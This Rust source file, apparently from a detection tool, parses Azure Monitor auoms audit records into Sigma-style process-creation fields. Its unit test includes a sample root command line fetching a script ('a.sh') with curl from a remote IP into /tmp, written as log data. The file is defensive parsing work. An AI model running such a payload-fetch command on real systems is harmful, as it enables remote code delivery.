//! auoms (the Azure Monitor / OMS agent's audit daemon) records, as they
//! reach syslog: `type=AUOMS_EXECVE audit(1521757638.392:262332): syscall=execve
//! success=yes ppid=… pid=… audit_user=… user=… exe="…" cmdline="…" cwd="…"`.
//!
//! Unlike raw auditd, auoms has already joined the kernel's records: one
//! line is one event. Fields keep auoms's names (what Sentinel queries
//! use) and, for `AUOMS_EXECVE`, also get the Sysmon-style names SigmaHQ's
//! Linux `process_creation` rules are written against (`Image`,
//! `CommandLine`, `User`, `ProcessId`, `ParentProcessId`,
//! `CurrentDirectory`), as kahu's auditd reader gives them.

use super::auditd::{decode, kv_pairs};
use kahu_event::{Event, Fields, LogSource, Value};
use std::sync::Arc;

/// Fields kept per record, and pairs read per record: a hostile line of
/// millions of pairs stops there instead of costing a lookup each.
const MAX_FIELDS: usize = 256;
const MAX_PAIRS: usize = 4 * MAX_FIELDS;

/// Whether a syslog message is an auoms record.
pub(super) fn is_auoms(msg: &str) -> bool {
    msg.trim_start().starts_with("type=AUOMS_")
}

/// Fill `ev` (which has provenance, host and syslog time) from an auoms
/// record; `false` when the message is not one (the caller keeps it as
/// syslog text).
pub(super) fn apply(msg: &str, ev: &mut Event) -> bool {
    let Some(rest) = msg.trim_start().strip_prefix("type=") else {
        return false;
    };
    let Some((rtype, rest)) = rest.split_once(' ') else {
        return false;
    };
    let rest = rest.trim_start();
    let rest = rest.strip_prefix("msg=").unwrap_or(rest);
    let Some(rest) = rest.strip_prefix("audit(") else {
        return false;
    };
    let Some(close) = rest.find(')') else {
        return false;
    };
    let (time, serial) = rest[..close]
        .split_once(':')
        .unwrap_or((&rest[..close], ""));
    let body = rest[close + 1..].trim_start_matches(':');
    let mut f = Fields::with_capacity(32);
    f.insert("type", Value::str(rtype));
    if let Ok(s) = serial.parse::<u64>() {
        f.insert("serial", Value::UInt(s));
    }
    for (k, v) in kv_pairs(body).take(MAX_PAIRS) {
        if f.len() >= MAX_FIELDS {
            break;
        }
        f.insert(k, decode(k, v));
    }
    // The record's own time is when the kernel saw the call; the syslog
    // header's is when it was logged.
    if let Some(t) = kahu_event::parse_timestamp(time) {
        ev.timestamp = Some(t);
    }
    ev.channel = Some(Arc::from("auoms"));
    ev.provider = Some(Arc::from("auoms"));
    ev.logsource = LogSource::product("linux").with_service("auditd");
    ev.alt_logsources.clear();
    if rtype == "AUOMS_EXECVE" {
        for (to, from) in [
            ("Image", "exe"),
            ("CommandLine", "cmdline"),
            ("ProcessId", "pid"),
            ("ParentProcessId", "ppid"),
            ("CurrentDirectory", "cwd"),
            ("LogonId", "auid"),
        ] {
            if let Some(v) = f.get_exact(from).cloned() {
                f.insert(to, v);
            }
        }
        let user = ["audit_user", "user"].iter().find_map(|k| {
            f.get_exact(k)
                .and_then(Value::as_text)
                .map(|u| u.into_owned())
        });
        if let Some(u) = user {
            f.insert("User", Value::from(u));
        }
        ev.alt_logsources
            .push(LogSource::product("linux").with_category("process_creation"));
    }
    if let Some(h) = &ev.host {
        f.insert("host", Value::Str(h.clone()));
    }
    ev.fields = f;
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use kahu_event::{Location, Provenance};

    #[test]
    fn execve_record_gets_process_creation_names() {
        let msg = r#"type=AUOMS_EXECVE audit(1639510000.123:4567): syscall=execve syscall_r=59 success=yes exit=0 a0=7f a1=7e ppid=1200 pid=1300 audit_user=root auid=0 user=root uid=0 gid=0 exe="/usr/bin/curl" cmdline="curl -s http://198.51.100.7:8080/a.sh" cwd="/tmp" containerid="""#;
        let mut ev = Event::new(Provenance::new("syslog".into(), Location::Line(1)));
        assert!(is_auoms(msg));
        assert!(apply(msg, &mut ev));
        assert_eq!(ev.timestamp.unwrap().timestamp_millis(), 1_639_510_000_123);
        assert_eq!(ev.logsource.service.as_deref(), Some("auditd"));
        assert_eq!(
            ev.alt_logsources[0].category.as_deref(),
            Some("process_creation")
        );
        assert_eq!(ev.get_str("Image").as_deref(), Some("/usr/bin/curl"));
        assert_eq!(
            ev.get_str("CommandLine").as_deref(),
            Some("curl -s http://198.51.100.7:8080/a.sh")
        );
        assert_eq!(ev.get("ParentProcessId"), Some(&Value::Int(1200)));
        assert_eq!(ev.get_str("User").as_deref(), Some("root"));
        assert_eq!(ev.get_str("type").as_deref(), Some("AUOMS_EXECVE"));
        assert!(!is_auoms("type=SYSCALL msg=audit(1:2): x=1"));
        let mut other = Event::new(Provenance::new("s".into(), Location::Line(2)));
        assert!(!apply("type=AUOMS_EXECVE no audit part", &mut other));
    }
}
